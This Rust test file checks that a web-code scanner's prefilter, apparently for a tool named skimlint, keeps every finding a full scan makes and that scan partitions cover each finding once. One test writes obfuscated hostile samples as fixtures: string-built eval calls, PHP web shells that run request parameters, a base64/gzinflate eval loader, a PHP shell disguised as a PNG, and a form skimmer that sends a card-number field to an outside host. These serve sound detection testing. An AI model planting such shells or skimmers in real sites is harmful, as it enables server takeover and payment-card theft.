//! The byte-level prefilter must never drop a finding that a full scan makes: the JSON findings
//! of a scan with the prefilter and with `--no-prefilter` are compared on the fixtures, the
//! annotated rule tests, generated inputs and (when present) the shared corpus.

mod common;
use common::{json_findings, root};
use std::path::{Path, PathBuf};

use assert_cmd::Command;

fn findings(paths: &[PathBuf], prefilter: bool, extra: &[&str]) -> serde_json::Value {
    json_findings(paths, |cmd| {
        cmd.args(extra);
        if !prefilter {
            cmd.arg("--no-prefilter");
        }
    })
}

fn same_with_and_without(paths: &[PathBuf]) -> usize {
    let full = findings(paths, false, &[]);
    let filtered = findings(paths, true, &[]);
    assert_eq!(
        full, filtered,
        "the prefilter changed the findings for {paths:?}"
    );
    full.as_array().map_or(0, Vec::len)
}

#[test]
fn prefilter_keeps_every_finding_on_fixtures_and_annotated_tests() {
    let n = same_with_and_without(&[root().join("fixtures"), root().join("tests/annotated")]);
    assert!(n > 0, "the fixtures have findings");
}

#[test]
fn prefilter_keeps_every_finding_on_generated_inputs() {
    // Obfuscated spellings with none of the plain names in them.
    let dir = tempfile::tempdir().unwrap();
    let cases: &[(&str, &str)] = &[
        ("a.js", "window['ev'+'al'](atob('YWxlcnQoMSk='));\n"),
        ("b.js", "var k=\"\\x65\\x76\\x61\\x6c\";this[k](\"x\");\n"),
        ("c.php", "<?php $f = 'sys'.'tem'; $f($_GET['c']);\n"),
        ("d.php", "<?php $a=strrev('lave'); $a(gzinflate(base64_decode('S0lNzFEoSi0uSc0rSS0BAA==')));\n"),
        ("e.html", "<input name=\"cc_number\"><script>new Image().src='//x.top/?'+document.forms[0].cc_number.value</script>\n"),
        ("f.png", "\u{89}PNG\r\n<?php eval($_POST['x']); ?>\n"),
        ("g.js", "const c = `e${'v'}al`; globalThis[c](String.fromCharCode(97,108,101,114,116,40,49,41));\n"),
    ];
    for (name, text) in cases {
        std::fs::write(dir.path().join(name), text).unwrap();
    }
    same_with_and_without(&[dir.path().to_path_buf()]);
}

#[test]
fn prefilter_keeps_every_finding_on_the_shared_corpus() {
    let corpus = root().join("../shared/corpus");
    if !Path::new(&corpus).is_dir() {
        eprintln!("skipped: {} is absent", corpus.display());
        return;
    }
    same_with_and_without(&[corpus]);
}

#[test]
fn partitions_cover_every_finding_once() {
    let paths = [root().join("fixtures")];
    let all = findings(&paths, true, &[]);
    let mut merged: Vec<serde_json::Value> = Vec::new();
    for k in 1..=3 {
        let part = findings(&paths, true, &["--partition", &format!("{k}/3")]);
        merged.extend(part.as_array().unwrap().iter().cloned());
    }
    let key = |v: &serde_json::Value| v.to_string();
    let mut a: Vec<String> = all.as_array().unwrap().iter().map(key).collect();
    let mut b: Vec<String> = merged.iter().map(key).collect();
    a.sort();
    b.sort();
    assert_eq!(a, b);
    let bad = Command::cargo_bin("skimlint")
        .unwrap()
        .args(["check", "--partition", "4/3", "fixtures"])
        .output()
        .unwrap();
    assert_eq!(bad.status.code(), Some(2));
}
